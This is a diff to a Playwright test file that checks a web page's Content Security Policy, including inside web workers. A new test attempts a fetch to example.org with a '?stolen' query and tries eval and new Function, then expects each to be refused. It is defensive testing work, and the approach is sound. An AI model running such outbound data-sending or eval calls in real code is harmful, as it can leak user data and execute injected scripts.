@@ -1,6 +1,6 @@
 /** What the page lets itself do: its policy is never broken by the page's own ways, and holds against what is put into it. */
 import { expect, test } from '@playwright/test'
-import type { Page } from '@playwright/test'
+import type { Page, Worker } from '@playwright/test'
 import { complaintsOf, openPage, standAt } from './descent.ts'
 
 declare global {
@@ -18,6 +18,28 @@ async function watched(page: Page): Promise<() => Promise<readonly string[]>> {
   return () => page.evaluate(() => window.refused)
 }
 
+/** What the policy has refused in any worker that the page started. The header of its script holds a worker; a host may not send it. */
+function watchedWorkers(page: Page): () => Promise<readonly string[]> {
+  const workers: Promise<Worker>[] = []
+  page.on('worker', (worker) => {
+    workers.push(
+      worker.evaluate(() => {
+        const refused: string[] = []
+        Object.assign(globalThis, { refused })
+        globalThis.addEventListener('securitypolicyviolation', (event) => {
+          const { effectiveDirective, blockedURI } = event as SecurityPolicyViolationEvent
+          refused.push(`${effectiveDirective} ${blockedURI}`)
+        })
+      }).then(() => worker),
+    )
+  })
+  return async () => {
+    const lists = await Promise.all((await Promise.all(workers)).map((worker) => worker.evaluate(() => (globalThis as unknown as { readonly refused: readonly string[] }).refused)))
+    expect(lists.length).toBeGreaterThan(0)
+    return lists.flat()
+  }
+}
+
 /** Addresses that were asked for, from the page and its workers. */
 function askedOf(page: Page): string[] {
   const asked: string[] = []
@@ -32,6 +54,7 @@ test('a race, a training, an experiment, a lesson, an export and the history bre
   const complaints = complaintsOf(page)
   const asked = askedOf(page)
   const refused = await watched(page)
+  const refusedInWorkers = watchedWorkers(page)
   const found: string[] = []
   await openPage(page)
   await standAt(page, 20)
@@ -47,7 +70,7 @@ test('a race, a training, an experiment, a lesson, an export and the history bre
   await expect(page.locator('.lesson-panel')).toBeVisible()
   await page.locator('body').press('h')
   await expect(page.getByRole('dialog', { name: 'History' })).toBeVisible()
-  found.push(...(await refused()))
+  found.push(...(await refused()), ...(await refusedInWorkers()))
   await openPage(page, '#v1&lesson=step-size&step=1')
   await expect(page.locator('.lesson-panel .katex').first()).toBeVisible()
   found.push(...(await refused()))
@@ -95,4 +118,31 @@ test('a script in the text, code in a string, another host and a frame are refus
   expect(directives).toEqual(new Set(['connect-src', 'frame-src', 'img-src', 'script-src', 'script-src-attr', 'script-src-elem']))
   expect(asked.filter((url) => url.includes('example.org'))).toEqual([])
   expect(await page.locator('meta[name=referrer]').getAttribute('content')).toBe('no-referrer')
+})
+
+test('a worker makes no script of a text either, and asks no other host', async ({ page, baseURL }) => {
+  const scripts = new Map<string, string | undefined>()
+  page.on('response', (response) => scripts.set(response.url(), response.headers()['content-security-policy']))
+  const started = page.waitForEvent('worker')
+  const refused = watchedWorkers(page)
+  await openPage(page)
+  const worker = await started
+  const hosted = process.env['PLAYGROUND_URL'] !== undefined
+  test.skip(hosted && scripts.get(worker.url()) === undefined, 'this host sends no policy with its scripts')
+  expect(new URL(worker.url()).origin).toBe(new URL(baseURL ?? '').origin)
+  expect(await refused()).toEqual([])
+  const made = await worker.evaluate(async () => {
+    const attempt = (make: () => unknown): string => {
+      try {
+        return String(make())
+      } catch (error) {
+        return error instanceof Error ? error.name : String(error)
+      }
+    }
+    const asked = await fetch('https://example.org/?stolen').then(() => 'answered', () => 'refused')
+    // oxlint-disable-next-line typescript/no-implied-eval, no-eval -- that it is refused is the point
+    return [attempt(() => new Function('return 1')()), attempt(() => (0, eval)('1')), asked]
+  })
+  expect(made).toEqual(['EvalError', 'EvalError', 'refused'])
+  expect(new Set((await refused()).map((line) => line.split(' ', 1)[0]))).toEqual(new Set(['script-src', 'connect-src']))
 })
